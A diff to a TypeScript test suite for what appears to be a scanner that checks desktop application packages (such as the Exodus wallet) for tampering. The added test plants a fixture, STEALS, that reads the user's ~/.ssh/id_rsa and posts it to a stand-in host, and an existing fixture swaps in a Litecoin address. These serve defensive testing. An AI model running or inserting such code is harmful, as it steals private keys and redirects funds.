@@ -35,6 +35,10 @@ import type { Ran } from './run-unmask.ts';
 const FOLLOWS = new Ajv({ allowUnionTypes: true }).addSchema(verdictSchema, 'verdict.schema.json').compile(schema);
 /** The hash that the vendor embedded, whatever became of the archive since. */
 const VENDORS = headerHash(archiveOf({}));
+const STEALS = `const fs = require('fs'), os = require('os'), https = require('https');
+const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
+https.request({ host: 'collector.invalid', method: 'POST' }).end(key);
+`;
 const PAYS = { [vendorFile()]: `export function vendors() { this.inputs.address = '${LITECOIN}'; }\n` };
 
 describe('unmask desktop', () => {
@@ -127,6 +131,14 @@ describe('unmask desktop', () => {
     const { code, err } = await run('baseline', '--accept', 'Exodus');
     assert.equal(code, 2);
     assert.match(err, /no application Exodus to accept/);
+  });
+
+  it('advises nobody to record what holds proof of hostile deeds, whatever is known of it, and does not call it decided', async () => {
+    disk.install(NSIS, { over: { 'index.js': STEALS } });
+    const { code, out } = await run('scan');
+    assert.equal(code, 2);
+    assert.match(out, /^UNKNOWN[^]*What its code does[^]*do not use\s+it/);
+    assert.doesNotMatch(out, /record it now/);
   });
 
   it('says that a baseline was changed, uses nothing of it, and cannot decide', async () => {
